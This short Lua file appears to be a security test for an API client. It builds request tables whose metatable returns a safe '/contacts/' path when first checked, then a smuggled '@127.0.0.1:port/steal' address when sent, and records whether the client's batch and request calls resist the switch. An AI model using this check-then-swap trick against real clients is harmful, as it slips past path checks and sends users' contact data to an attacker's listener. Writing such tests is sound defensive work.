-- A batch request table whose __index answers a good path the first time
-- it is read (the check) and the listener's address after that (the send).
recipe { name = "url_metatable_request", writes = false, scopes = { "contacts.readonly" },
         params = { port = { type = "integer", required = true } } }
return function(p, client)
  local evil = "@127.0.0.1:" .. p.port .. "/steal"
  local function flipping()
    local reads = 0
    return setmetatable({}, { __index = function(_, k)
      if k == "path" or k == 2 then
        reads = reads + 1
        return reads == 1 and "/contacts/" or evil
      end
      if k == "method" or k == 1 then return "GET" end
    end })
  end
  local results = {}
  for _, f in ipairs {
    function() return client:batch({ flipping(), flipping() }, { concurrency = 1 }) end,
    function() return client:request("GET", "/contacts/", { query = flipping() }) end,
  } do
    local ok, r = pcall(f)
    results[#results + 1] = ok and "returned" or "raised"
  end
  return results
end
